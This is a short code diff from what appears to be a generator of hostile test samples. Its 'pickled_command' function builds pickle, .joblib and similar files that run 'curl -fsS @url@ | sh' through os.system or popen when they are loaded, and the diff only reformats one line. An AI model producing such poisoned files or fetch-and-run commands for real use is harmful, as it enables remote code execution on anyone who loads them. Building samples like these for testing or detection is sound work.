@@ -145,7 +145,9 @@ def database(draft: Draft) -> None:
 
 def pickled_command(draft: Draft) -> None:
     """Bring a pickle that starts a command when it is loaded."""
-    module, function = draft.rng.choice((("os", "system"), ("posix", "system"), ("subprocess", "getoutput"), ("os", "popen")))
+    module, function = draft.rng.choice(
+        (("os", "system"), ("posix", "system"), ("subprocess", "getoutput"), ("os", "popen"))
+    )
     data = carriers.calling_pickle(module, function, draft.words.render("curl -fsS @url@ | sh"))
     _load(draft, _name(draft, draft.rng.choice((".pkl", ".pickle", ".joblib"))), data,
           draft.rng.choice(("import pickle\nwith open(@path@, 'rb') as @n5@:\n    @n6@ = pickle.load(@n5@)\n",
